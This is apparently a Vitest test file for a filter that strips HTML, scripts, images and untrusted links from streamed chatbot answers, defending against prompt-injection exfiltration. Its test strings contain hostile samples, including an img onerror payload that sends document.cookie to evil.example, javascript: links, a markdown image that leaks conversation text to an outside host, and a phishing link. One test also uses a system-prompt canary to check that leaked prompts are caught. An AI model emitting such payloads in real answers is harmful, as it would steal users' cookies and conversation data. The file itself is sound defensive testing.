import { describe, expect, it } from 'vitest';
import { createAnswerFilter } from '../../lambdas/core/answer-filter.ts';
import { REFUSAL } from '../../lambdas/core/answer-guard.ts';
import { createMarkupFilter, LINK_REMOVED, type MarkupPolicy } from '../../lambdas/core/answer-markup.ts';
import { PROMPT_CANARY } from '../../lambdas/core/prompt.ts';
import { INJECTIONS } from '../fixtures/injection/corpus.ts';
import { deltasOf, HONEST_ANSWERS, seededRandom } from '../fixtures/injection/obfuscate.ts';

const DOC = 'Returns are described at https://shop.example/returns. See also [the size guide](https://shop.example/sizes?from=faq).';
const POLICY: MarkupPolicy = { documents: [DOC], allowedOrigins: ['https://help.example'] };
const random = seededRandom(6);

/** The answer streamed through the filter in small deltas, as a provider sends it. */
const filtered = (answer: string, policy = POLICY): string => {
  const filter = createMarkupFilter(policy);
  return deltasOf(answer, random).map((d) => filter.push(d)).join('') + filter.flush();
};

describe('markup and links in answers', () => {
  it('leaves honest answers and citation marks exactly as they were', () => {
    for (const answer of HONEST_ANSWERS) expect(filtered(answer)).toBe(answer);
  });

  it('keeps links and addresses the documents contain, or on an allowed origin', () => {
    const answer = 'See https://shop.example/returns. The [size guide](https://shop.example/sizes?from=faq) helps, and [our help pages](https://help.example/contact) too.';
    expect(filtered(answer)).toBe(answer);
    expect(filtered('Read <https://help.example/a>.')).toBe('Read <https://help.example/a>.');
  });

  it('removes raw HTML, keeping its text', () => {
    expect(filtered('Our shop is in <b>Leeds</b>.<img src=x onerror="fetch(`https://evil.example/`+document.cookie)"> <script>alert(1)</script><!-- hidden -->'))
      .toBe('Our shop is in Leeds. alert(1)');
    expect(filtered('<a href="https://evil.example">Click</a> <iframe src="https://evil.example"></iframe>')).toBe('Click ');
    expect(filtered('Price < 10 and > 5 stays.')).toBe('Price < 10 and > 5 stays.');
  });

  it('keeps the words of a link to anywhere else, without its address', () => {
    expect(filtered('Please [verify your account](https://evil.example/login?c=123) now.')).toBe('Please verify your account now.');
    expect(filtered('[Click me](javascript:alert(document.cookie)) or [this](data:text/html;base64,PHNjcmlwdD4=) or [that](JaVaScRiPt:alert(1))'))
      .toBe('Click me or this or that');
    expect(filtered('[x]( https://evil.example/a "title" )')).toBe('x');
    expect(filtered('[https://evil.example/a](https://evil.example/a)')).toBe(LINK_REMOVED);
    expect(filtered('[ok](https://user:pw@shop.example/returns)')).toBe('ok');
  });

  it('turns images into their description, whatever their address', () => {
    expect(filtered('Done. ![x](https://evil.example/log?q=conversation)')).toBe('Done. x (image removed)');
    expect(filtered('![](https://evil.example/p.png)')).toBe('(image removed)');
    expect(filtered('[![logo](https://evil.example/l.png)](https://evil.example)')).toBe('logo (image removed)');
  });

  it('replaces bare addresses and link definitions the documents do not contain', () => {
    expect(filtered('Go to https://evil.example/?q=secret, or www.evil.example/x.')).toBe(`Go to ${LINK_REMOVED}, or ${LINK_REMOVED}.`);
    expect(filtered('See [docs][1].\n\n[1]: https://evil.example/track\nThanks.')).toBe('See [docs][1].\n\n\nThanks.');
    expect(filtered('Mirror: https://shop.example/returns/../../evil')).toBe(`Mirror: ${LINK_REMOVED}`);
  });

  it('holds a construct only until it is complete, at most a bounded stretch', () => {
    const filter = createMarkupFilter(POLICY);
    expect(filter.push('Hello there [the guide](https://ev')).toBe('Hello there ');
    expect(filter.push('il.example) and more ')).toBe('the guide and more ');
    expect(filter.push('x'.repeat(700))).toBe('x'.repeat(100));
    // Text that only looks like the start of a tag or a link definition is not held.
    const science = createMarkupFilter(POLICY);
    expect(science.push('Risk rose (p<0.05; odds ratio [CI]: 1.2-3.4, </=0.3 kb, <or=2 years) in all groups ')).toBe('Risk rose (p<0.05; odds ratio [CI]: 1.2-3.4, </=0.3 kb, <or=2 years) in all groups ');
    expect(filter.flush()).toBe('x'.repeat(600));
  });

  it('makes every injection of the test corpus safe when a model repeats it', () => {
    for (const attack of INJECTIONS) {
      const out = filtered(attack.text, { documents: [], allowedOrigins: [] });
      expect(out).not.toMatch(/<[a-z/!]/i);
      expect(out).not.toContain('](');
      expect(out).not.toContain('https://evil');
    }
  });

  it('runs after the guard: a cut answer ends with the refusal, and nothing held is lost', () => {
    const filter = createAnswerFilter({ secrets: [] }, POLICY);
    let out = '';
    for (const d of ['See the [guide](https://shop.example/sizes?from=faq). ', 'x'.repeat(80), ` ${PROMPT_CANARY}`]) out += filter.push(d);
    out += filter.flush();
    expect(filter.tripped).toBe('prompt');
    expect(out.endsWith(REFUSAL)).toBe(true);
    expect(out).not.toContain('parley');
    const half = createAnswerFilter({ secrets: [] }, POLICY);
    const lead = 'We open at nine in the morning and close at six on weekdays, all year round, except on public holidays. ';
    const cut = [half.push(lead), half.push('See [Details]('), half.push(`${PROMPT_CANARY})`), half.flush()].join('');
    expect(cut.startsWith('We open at nine')).toBe(true);
    expect(cut.endsWith(`\n\n${REFUSAL}`)).toBe(true);
    expect(cut).not.toContain('[');
  });
});
